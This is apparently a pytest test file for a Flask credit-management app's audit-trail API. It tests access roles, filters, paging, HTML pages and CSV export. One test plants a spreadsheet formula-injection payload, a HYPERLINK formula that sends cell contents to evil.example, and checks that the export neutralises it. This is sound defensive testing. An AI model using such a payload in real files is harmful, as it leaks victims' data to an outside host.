"""The audit trail (issue 14, "An auditor's view"): GET /api/audit and /audit list every state change with
actor, time, object and before/after, filtered and paged, and export CSV that no spreadsheet runs."""

from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta

import pytest
from flask import Flask
from flask.testing import FlaskClient

from tests.collections_desk import Collections
from tests.helpers import auth, migrated_customer
from tests.webui.test_pages import logged_in
from workflows.csv_export import safe_cell
from workflows.store.audit import record_event
from workflows.store.db import transaction

pytestmark = pytest.mark.usefixtures("shipped")

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _customer(app: Flask, name: str = "Audit Trail GmbH") -> int:
    return migrated_customer(
        app, {"name": name, "currency": "EUR", "credit_limit": "25000.00", "external_id": name[:20]}
    )


def test_auditors_and_admins_read_the_trail_others_are_refused(
    client: FlaskClient, demo_tokens: dict[str, str]
) -> None:
    for path in ("/api/audit", "/api/audit/sod", "/api/audit?format=csv", "/api/audit/sod?format=csv"):
        for user in ("auditor1", "admin"):
            assert client.get(path, headers=auth(demo_tokens[user])).status_code == 200, (path, user)
        refused = client.get(path, headers=auth(demo_tokens["sales1"]))
        assert refused.status_code == 403 and refused.json["error"]["code"] == "forbidden", path
        assert client.get(path).status_code == 401, path


def test_a_limit_change_is_listed_with_its_object_and_before_and_after(
    app: Flask, client: FlaskClient, demo_tokens: dict[str, str], clock: datetime
) -> None:
    customer_id = _customer(app)
    auditor = auth(demo_tokens["auditor1"])
    found = client.get(
        f"/api/audit?kind=credit_limit_changed&object=customer:{customer_id}", headers=auditor
    ).json
    assert found["total"] == 1
    change = found["items"][0]
    assert change["actor"] == "admin" and change["object"] == f"customer:{customer_id}"
    assert change["before"] == {"credit_limit": "0.00"} and change["after"] == {"credit_limit": "25000.00"}
    assert datetime.fromisoformat(change["at"]) == clock and change["at"].endswith("+00:00")
    created = client.get(f"/api/audit?kind=customer_created&object=customer:{customer_id}", headers=auditor)
    assert created.json["items"][0]["before"] is None
    assert created.json["items"][0]["after"]["name"] == "Audit Trail GmbH"


def test_filters_by_period_actor_kind_and_object_and_pages(
    app: Flask, client: FlaskClient, demo_tokens: dict[str, str], clock: datetime
) -> None:
    first, second = _customer(app, "First Ltd"), _customer(app, "Second Ltd")
    factory = app.extensions["creditflow"].rt.factory
    with transaction(factory) as session:
        for day in range(3):
            record_event(
                session,
                actor="finance1",
                action="probe_recorded",
                now=clock + timedelta(days=day + 1),
                customer_id=second,
            )
    auditor = auth(demo_tokens["auditor1"])

    def listed(query: str) -> dict[str, object]:
        response = client.get(f"/api/audit?{query}", headers=auditor)
        assert response.status_code == 200, (query, response.json)
        return dict(response.json)

    assert listed("kind=probe_recorded")["total"] == 3
    assert listed("actor=finance1&kind=probe_recorded")["total"] == 3
    assert listed("actor=sales1&kind=probe_recorded")["total"] == 0
    assert listed(f"object=customer:{first}&kind=probe_recorded")["total"] == 0
    assert listed(f"object=customer:{second}&kind=probe_recorded")["total"] == 3
    # Days are whole days; times carry their offset. Both ends are inclusive.
    assert listed("kind=probe_recorded&from=2026-03-03&to=2026-03-04")["total"] == 2
    assert listed("kind=probe_recorded&from=2026-03-04T10:00:00%2B01:00")["total"] == 2  # 09:00 UTC
    assert listed("kind=probe_recorded&from=2026-03-04T10:00:01%2B01:00")["total"] == 1
    assert listed("kind=probe_recorded&to=2026-03-03T08:59:59Z")["total"] == 0
    # Newest first, one per page.
    pages = [listed(f"kind=probe_recorded&per_page=1&page={n}") for n in (1, 2, 3, 4)]
    assert [p["total"] for p in pages] == [3, 3, 3, 3]
    ats = [p["items"][0]["at"] for p in pages[:3]]  # type: ignore[index]
    assert ats == sorted(ats, reverse=True) and pages[3]["items"] == []


@pytest.mark.parametrize(
    "query",
    [
        "from=yesterday",
        "to=2026-02-30",
        "from=2026-03-02T09:00:00",  # no offset: which zone?
        "from=9999-12-31T23:59:59-14:00",  # past datetime's range in UTC
        "from=2026-03-05&to=2026-03-01",
        "object=customer",
        "object=planet:1",
        "object=customer:abc",
        "object=customer:99999999999999999999",
        "page=0",
        "per_page=x",
        "format=xlsx",
        "actor=" + "a" * 81,
    ],
)
def test_bad_query_parameters_are_400_naming_the_parameter(
    client: FlaskClient, demo_tokens: dict[str, str], query: str
) -> None:
    response = client.get(f"/api/audit?{query}", headers=auth(demo_tokens["auditor1"]))
    assert response.status_code == 400, (query, response.json)
    assert "query parameter" in response.json["error"]["message"]


def test_csv_export_prefixes_cells_a_spreadsheet_would_run(
    app: Flask, client: FlaskClient, demo_tokens: dict[str, str], clock: datetime
) -> None:
    customer_id = _customer(app)
    with transaction(app.extensions["creditflow"].rt.factory) as session:
        record_event(session, actor=EVIL, action="@SUM(1+1)", now=clock, customer_id=customer_id)
    response = client.get(
        "/api/audit?format=csv&object=customer:" + str(customer_id), headers=auth(demo_tokens["auditor1"])
    )
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    forged = next(r for r in rows if r["kind"].endswith("SUM(1+1)"))
    assert forged["actor"] == "'" + EVIL and forged["kind"] == "'@SUM(1+1)"
    assert forged["object"] == f"customer:{customer_id}"
    limit = next(r for r in rows if r["kind"] == "credit_limit_changed")
    assert limit["before"] == '{"credit_limit": "0.00"}' and limit["after"] == '{"credit_limit": "25000.00"}'
    # The web export is the same file.
    page_csv = logged_in(app, "auditor1").get(f"/audit.csv?object=customer:{customer_id}")
    assert page_csv.status_code == 200 and page_csv.get_data(as_text=True) == response.get_data(as_text=True)


def test_every_formula_start_is_neutralised() -> None:
    for text in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx"):
        assert safe_cell(text) == "'" + text
    assert safe_cell("manager1") == "manager1" and safe_cell(None) == ""
    assert safe_cell({"a": 1}) == '{"a": 1}'


def test_the_page_lists_filters_and_shows_in_the_navigation_of_its_readers(
    app: Flask, client: FlaskClient, demo_tokens: dict[str, str]
) -> None:
    customer_id = _customer(app, "Page Probe AG")
    auditor = logged_in(app, "auditor1")
    page = auditor.get(f"/audit?object=customer:{customer_id}&kind=credit_limit_changed")
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    assert 'href="/audit"' in html  # the nav item
    assert "credit limit changed" in html and "25000.00" in html
    assert "/audit.csv?" in html
    assert auditor.get("/audit?from=nonsense").status_code == 400
    sod = auditor.get("/audit/sod")
    assert sod.status_code == 200 and "Segregation of duties" in sod.get_data(as_text=True)
    assert auditor.get("/audit/sod.csv").mimetype == "text/csv"
    sales = logged_in(app, "sales1")
    assert sales.get("/audit").status_code == 403
    assert 'href="/audit"' not in sales.get("/inbox").get_data(as_text=True)
    assert client.get("/audit").status_code == 302  # to the login page


def test_a_payment_shows_the_open_amounts_it_changed(
    app: Flask, client: FlaskClient, demo_tokens: dict[str, str]
) -> None:
    customer_id = _customer(app, "Payer SA")
    finance = auth(demo_tokens["finance1"])
    invoice = {"customer_id": customer_id, "number": "INV-7", "amount": "100.00", "currency": "EUR"}
    dates = {"issue_date": "2026-03-01", "due_date": "2026-03-31"}
    assert client.post("/api/invoices", json=invoice | dates, headers=finance).status_code == 201
    paid = {"customer_id": customer_id, "amount": "130.00", "currency": "EUR", "date": "2026-03-02"}
    assert client.post("/api/payments", json=paid, headers=finance).status_code == 201
    (change,) = client.get(
        f"/api/audit?kind=payment_received&object=customer:{customer_id}",
        headers=auth(demo_tokens["auditor1"]),
    ).json["items"]
    assert change["actor"] == "finance1"
    assert change["before"] == {"credit_balance": "0.00", "open_amounts": {"INV-7": "100.00"}}
    assert change["after"] == {"credit_balance": "30.00", "open_amounts": {"INV-7": "0.00"}}


def test_a_dunning_case_lists_its_events_with_the_level_they_set(
    desk: Collections, demo_tokens: dict[str, str]
) -> None:
    customer = desk.customer("Latepay Works")
    desk.invoice(customer, "INV-30", "900.00")
    cases = f"/api/dunning-cases?customer_id={customer}"
    for _day in range(40):
        desk.tick()
        found = desk.client.get(cases, headers=auth(demo_tokens["admin"])).json["items"]
        if found and found[0]["level"] >= 1:
            break
    case = desk.case(customer)
    auditor = auth(demo_tokens["auditor1"])
    trail = desk.client.get(f"/api/audit?object=case:{case['id']}", headers=auditor).json
    kinds = {c["kind"]: c for c in trail["items"]}
    assert {"dunning_opened", "dunning_level_reached", "dunning_notice_sent"} <= set(kinds)
    assert kinds["dunning_opened"]["object"] == f"case:{case['id']}"
    assert all(c["at"].endswith("+00:00") for c in trail["items"])  # UTC, with its offset
    assert kinds["dunning_level_reached"]["after"] == {"level": 1}
    assert kinds["dunning_level_reached"]["instance_id"] == case["instance_id"]
    # The customer's filter finds the case's events too, and a kind of the case filters them.
    by_customer = desk.client.get(
        f"/api/audit?object=customer:{customer}&kind=dunning_level_reached", headers=auditor
    ).json
    assert [c["id"] for c in by_customer["items"]] == [kinds["dunning_level_reached"]["id"]]


def test_a_lone_surrogate_an_older_row_holds_is_shown_repaired_in_the_json_trail(
    app: Flask, client: FlaskClient, demo_tokens: dict[str, str], clock: datetime
) -> None:
    # Nothing creditflow writes today holds one (requests are checked), but a SQLite row written by an older
    # version or by hand can: the JSON answer shows it as U+FFFD (shown_json), as the CSV and pages do.
    customer_id = _customer(app)
    with transaction(app.extensions["creditflow"].rt.factory) as session:
        record_event(
            session,
            actor="ana",
            action="note_kept",
            now=clock,
            customer_id=customer_id,
            note="a\ud800b",
            nested={"k\udfff": ["\udc00"]},
        )
    response = client.get("/api/audit?kind=note_kept", headers=auth(demo_tokens["auditor1"]))
    assert response.status_code == 200, response.get_data(as_text=True)
    [change] = response.json["items"]
    assert change["actor"] == "ana"
    assert change["detail"]["note"] == "a\ufffdb" and change["detail"]["nested"] == {"k\ufffd": ["\ufffd"]}
